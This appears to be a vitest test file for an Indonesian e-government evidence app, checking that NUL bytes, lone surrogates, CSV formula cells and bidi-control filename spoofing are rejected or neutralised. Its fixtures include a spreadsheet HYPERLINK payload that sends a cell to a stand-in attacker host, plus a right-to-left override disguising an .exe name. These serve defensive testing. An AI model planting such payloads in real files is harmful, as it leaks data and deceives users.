import { and, eq } from "drizzle-orm";
import { parse } from "csv-parse/sync";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { auditEvents } from "../../src/db/schema";
import { call, makeUser, sessionFor } from "../helpers/accounts";
import { TEST_DB_KIND } from "../helpers/test-database";
import { startEvidenceApp, upload, type EvidenceTestApp } from "../lib/evidence-app";
import { samplePdf } from "../lib/evidence-fixtures";

type Session = Awaited<ReturnType<typeof sessionFor>>;

/** Hostile text: NUL and lone surrogates (PostgreSQL cannot store them), formula cells, bidi controls. */
describe(`hostile text in requests and exports on ${TEST_DB_KIND}`, () => {
  let t: EvidenceTestApp;
  let kspbe: Session; // Koordinator SPBE of Kota Jambi (15.71)
  let entry: Session;
  let admin: Session;

  beforeAll(async () => {
    t = await startEvidenceApp({ maxBytes: 256 * 1024 });
    kspbe = await sessionFor(t.database, (await makeUser(t.database, "koordinator_spbe", "15.71", null)).id);
    entry = await sessionFor(t.database, (await makeUser(t.database, "pelaksana_entri", "15.71", null)).id);
    admin = await sessionFor(t.database, (await makeUser(t.database, "administrator", null, null)).id);
  });
  afterAll(() => t.close());

  const invalidText = (field: string) => ({ error: "invalid_text", message: expect.stringContaining(field), details: { field } });

  it("answers 400 invalid_text naming the field for a NUL in the anonymous public search, a path parameter or a query", async () => {
    const search = await call(t.app, "GET", "/api/public/results?year=2024&q=ab%00cd", null);
    expect(search.statusCode, search.body).toBe(400);
    expect(search.json()).toEqual(invalidText("query.q"));
    const csv = await call(t.app, "GET", "/api/public/results?q=%00%00&format=csv", null);
    expect(csv.json()).toEqual(invalidText("query.q"));
    const param = await call(t.app, "GET", "/api/public/agencies/15.71%00", null);
    expect(param.statusCode, param.body).toBe(400);
    expect(param.json()).toEqual(invalidText("params.code"));
    expect((await call(t.app, "GET", "/api/public/results?year=2024&q=Jambi", null)).statusCode).toBe(200);
  });

  it("answers 400 invalid_text for a NUL or a lone surrogate in a JSON body field and stores nothing", async () => {
    const nul = await call(t.app, "POST", "/api/agencies/15.71/units", kspbe, { name: "Dinas\u0000Kominfo" });
    expect(nul.statusCode, nul.body).toBe(400);
    expect(nul.json()).toEqual(invalidText("body.name"));
    // A lone surrogate can only arrive as a JSON escape (UTF-8 cannot encode it).
    const lone = await t.app.inject({
      method: "POST",
      url: "/api/agencies/15.71/units",
      headers: { cookie: kspbe.cookie, "x-csrf-token": kspbe.csrf, "content-type": "application/json" },
      payload: '{"name":"Dinas \\ud800 Kominfo"}',
    });
    expect(lone.statusCode, lone.body).toBe(400);
    expect(lone.json()).toEqual(invalidText("body.name"));
    const nested = await call(t.app, "PUT", "/api/agencies/15/targets", kspbe, { targets: [{ year: 2026, target: 3, source: "RPJMD\u0000" }] });
    expect(nested.json()).toEqual(invalidText("body.targets.0.source"));
    // A proper pair (an emoji) is fine.
    expect((await call(t.app, "POST", "/api/agencies/15.71/units", kspbe, { name: "Dinas Kominfo \u{1F4BB}" })).statusCode).toBe(201);
    expect((await call(t.app, "GET", "/api/agencies/15.71/units", kspbe)).json().units.map((u: { name: string }) => u.name)).toEqual(["Dinas Kominfo \u{1F4BB}"]);
  });

  it("answers 400 invalid_text for a NUL in a multipart text field, before the file is stored", async () => {
    const res = await upload(t.app, "/api/agencies/15.71/evidence", entry, { title: "Perwal\u0000SPBE" }, { name: "perwal.pdf", contentType: "application/pdf", data: samplePdf() });
    expect(res.statusCode, res.body).toBe(400);
    expect(res.json()).toEqual(invalidText("body.title"));
    expect(await t.tempFiles()).toEqual([]);
  });

  it("stores a User-Agent with a NUL without it instead of failing the write", async () => {
    const res = await t.app.inject({
      method: "POST",
      url: "/api/agencies/15.71/units",
      headers: { cookie: kspbe.cookie, "x-csrf-token": kspbe.csrf, "user-agent": "Agen\u0000Uji" },
      payload: { name: "Bappeda" },
    });
    expect(res.statusCode, res.body).toBe(201);
    const [event] = await t.database.db.select().from(auditEvents).where(and(eq(auditEvents.action, "unit.create"), eq(auditEvents.targetId, String(res.json().id))));
    expect(event!.userAgent).toBe("AgenUji");
  });

  it("exports the audit trail as CSV with formula cells neutralised and figures left as they are", async () => {
    const hostile = ['=HYPERLINK("http://evil.example/?x="&A1,"klik")', "+1+1", "-2+3", "@SUM(A1:A2)", "\tTab", "\rCR"];
    for (const [i, ua] of hostile.entries()) {
      const res = await t.app.inject({
        method: "POST",
        url: "/api/agencies/15.71/units",
        headers: { cookie: kspbe.cookie, "x-csrf-token": kspbe.csrf, "user-agent": ua },
        payload: { name: i === 0 ? "=1+1" : `Unit ${i}` },
      });
      expect(res.statusCode, res.body).toBe(201);
    }
    const csv = await call(t.app, "GET", "/api/audit?agency=15.71&action=unit.create&format=csv", admin);
    expect(csv.statusCode, csv.body).toBe(200);
    const rows: string[][] = parse(csv.body);
    const header = rows[0]!;
    const agents = rows.slice(1).map((r) => r[header.indexOf("user_agent")]!);
    for (const ua of hostile) expect(agents).toContain(`'${ua}`);
    expect(rows.slice(1).map((r) => r[header.indexOf("after")])).toContain(`{"name":"=1+1"}`);
    for (const r of rows.slice(1)) for (const cell of r) expect(cell).not.toMatch(/^[=+\-@\t\r]/);

    // Open data: negative-looking figures are numbers, not text (the writer only touches formula strings).
    const open = await call(t.app, "GET", "/api/public/results?year=2024&format=csv", null);
    const data: string[][] = parse(open.body);
    expect(data.length).toBeGreaterThan(1);
    expect(data[1]![data[0]!.indexOf("index")]).toMatch(/^\d+\.\d\d$/);
  });

  it("drops bidi controls and zero-width characters from evidence titles and file names, and from Content-Disposition", async () => {
    const res = await upload(
      t.app,
      "/api/agencies/15.71/evidence",
      entry,
      { title: "Perwal \u202eFDP.exe\u202c SPBE\u200b", documentNumber: "No.\u2066 12\u2069" },
      { name: "a\u202egnp.pdf", contentType: "application/pdf", data: samplePdf() },
    );
    expect(res.statusCode, res.body).toBe(201);
    expect(res.json()).toMatchObject({ title: "Perwal FDP.exe SPBE", documentNumber: "No. 12", fileName: "agnp.pdf" });
    const file = await t.app.inject({ method: "GET", url: `/api/agencies/15.71/evidence/${res.json().id}/file`, headers: { cookie: entry.cookie } });
    expect(file.statusCode).toBe(200);
    expect(file.headers["content-disposition"]).toBe(`attachment; filename="agnp.pdf"; filename*=UTF-8''agnp.pdf`);
  });
});
